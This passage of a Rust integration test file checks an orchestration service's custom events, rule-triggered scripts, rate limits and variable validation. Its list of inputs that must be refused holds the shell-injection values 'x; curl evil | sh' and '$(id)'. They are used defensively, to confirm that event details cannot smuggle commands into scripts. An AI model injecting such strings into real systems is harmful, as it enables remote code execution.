        .await
        .unwrap()
}

#[tokio::test]
async fn custom_events_posted_through_the_agent_fire_their_rules_and_are_bounded() {
    use agent::client::EmitError;
    let app = TestApp::spawn().await;
    let (s, a, script, appliance) = world(&app, "custom-events").await;
    let rule = add_rule(
        &app,
        &s.token,
        &a,
        json!({"name": "on deploy", "event_type": "custom.deployed",
            "steps": [{"action": {"type": "run_script", "script_id": script,
                "target": {"kind": "event_appliance"},
                "variables": {"greeting": "{{ event.detail }}"}}}]}),
    )
    .await;
    let token = app.state.agent.key.issue(appliance.parse().unwrap());

    let posted = emit(&app, &token, "deployed", "release 42").await.unwrap();
    assert_eq!(posted.type_, "custom.deployed");
    let events = app
        .get(&s.token, &format!("/api/v1/applications/{a}/events"))
        .await;
    let e = events.body["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["id"] == posted.event_id.to_string())
        .cloned()
        .expect("the event is in the application's history");
    assert_eq!(e["type"], "custom.deployed");
    assert_eq!(e["appliance_id"], appliance.as_str());
    assert_eq!(e["detail"], "release 42");
    // the rule runs for it, on the appliance that posted it, with the event in its context
    let run = app
        .eventually(20, "the rule's run ends", || async {
            let r = app
                .get(&s.token, &format!("/api/v1/rules/{rule}/runs"))
                .await;
            r.body["items"]
                .as_array()?
                .iter()
                .find(|r| r["status"] == "succeeded" || r["status"] == "failed")
                .cloned()
        })
        .await;
    assert_eq!(run["status"], "succeeded", "{run}");
    assert_eq!(run["event_type"], "custom.deployed");
    assert_eq!(run["appliance_id"], appliance.as_str());
    let job = run["steps"][0]["jobs"][0].as_str().unwrap();
    let j = app.get(&s.token, &format!("/api/v1/jobs/{job}")).await;
    assert!(
        j.body["script"]
            .as_str()
            .unwrap()
            .contains("echo release 42 from"),
        "{}",
        j.body["script"]
    );

    // bad names and details are refused with the server's words; nothing is recorded
    // (a detail reaches scripts through {{ event.detail }}: nothing a shell acts on gets in)
    let refused = [
        ("Deployed", "x".to_owned()),
        ("ok", "y".repeat(5000)),
        ("ok", "x; curl evil | sh".to_owned()),
        ("ok", "$(id)".to_owned()),
    ];
    for (name, detail) in &refused {
        match emit(&app, &token, name, detail).await {
            Err(EmitError::Invalid(words)) => {
                assert!(
                    words.contains("name") || words.contains("detail"),
                    "{words}"
                )
            }
            other => panic!("{name}: {other:?}"),
        }
    }
    // a token of no appliance is refused
    let stranger = app.state.agent.key.issue(common::ApplianceId::new());
    assert!(matches!(
        emit(&app, &stranger, "deployed", "").await,
        Err(EmitError::Failed(_))
    ));
    // a burst (the refused ones count too), then the appliance waits
    let burst = orchestrator::agent_api::EVENT_BURST as usize;
    let mut recorded = 1;
    let limited = loop {
        match emit(&app, &token, "tick", "").await {
            Ok(_) => recorded += 1,
            Err(EmitError::TooMany(after)) => break after,
            Err(e) => panic!("{e:?}"),
        }
        assert!(recorded + refused.len() <= burst, "no limit");
    };
    assert_eq!(recorded + refused.len(), burst);
    assert!(limited.is_some_and(|s| (1..=6).contains(&s)), "{limited:?}");
    // a script posting in a loop spends none of the calls its agent's heartbeats and jobs need (30
    // in a burst): after 40 refused events the agent is still answered
    for _ in 0..40 {
        assert!(matches!(
            emit(&app, &token, "tick", "").await,
            Err(EmitError::TooMany(_))
        ));
    }
    app.raw(
        app.client
            .get(app.url("/agent/v1/jobs"))
            .bearer_auth(&token),
    )
    .await
    .assert_status(200);
    let customs: Vec<String> = app
        .get(
            &s.token,
            &format!("/api/v1/applications/{a}/events?limit=500"),
        )
        .await
        .body["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["type"].as_str().filter(|t| t.starts_with("custom.")))
        .map(str::to_owned)
        .collect();
    let ticks = customs.iter().filter(|t| *t == "custom.tick").count();
    assert_eq!(ticks + 1, recorded, "{customs:?}");
    assert_eq!(
        customs.len(),
        recorded,
        "refused ones left no trace: {customs:?}"
    );
}

#[tokio::test]
async fn an_appliance_that_is_not_up_posts_no_events() {
    use agent::client::EmitError;
    let app = TestApp::spawn().await;
    let (s, _a, _script, appliance) = world(&app, "custom-not-up").await;
    let token = app.state.agent.key.issue(appliance.parse().unwrap());
    app.post(
        &s.token,
        &format!("/api/v1/appliances/{appliance}/stop"),
        json!({}),
    )
    .await
    .assert_status(202);
    app.eventually(20, "the appliance stops", || async {
        let r = app
            .get(&s.token, &format!("/api/v1/appliances/{appliance}"))
            .await;
        matches!(r.body["state"].as_str(), Some("stopping" | "stopped")).then_some(())
    })
    .await;
    match emit(&app, &token, "deployed", "").await {
        Err(EmitError::Failed(why)) => assert!(why.contains("409"), "{why}"),
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn a_rule_step_may_give_a_typed_variable_its_value_as_text() {
    // the portal sends the values of a step pinned to an older version as typed: the server reads
    // them as the pinned version declares
    let app = TestApp::spawn().await;
    let (s, a, _script, _appliance) = world(&app, "typed-as-text").await;
    let r = app
        .post(
            &s.token,
            "/api/v1/cloudscripts",
            json!({
                "name": "port-check",
                "body": "#!/bin/sh\necho {{ vars.port + 1 }}\n",
                "variables": [{"name": "port", "type": "int", "default": 80}]
            }),
        )
        .await;
    r.assert_status(201);
    let id = r.body["id"].as_str().unwrap().to_owned();
    let rule = |port: Value| {
        json!({"name": format!("pinned {port}"), "event_type": "appliance.came_alive", "enabled": false,
            "steps": [{"action": {"type": "run_script", "script_id": id, "version": 1,
                "target": {"kind": "all"}, "variables": {"port": port}}}]})
    };
    add_rule(&app, &s.token, &a, rule(json!("8080"))).await;
    let r = app
        .post(
            &s.token,
            &format!("/api/v1/applications/{a}/rules"),
            rule(json!("http")),
        )
        .await;
    r.assert_status(422);
    assert_eq!(
        r.body["errors"][0]["field"],
        "steps[0].action.variables.port"
    );
}
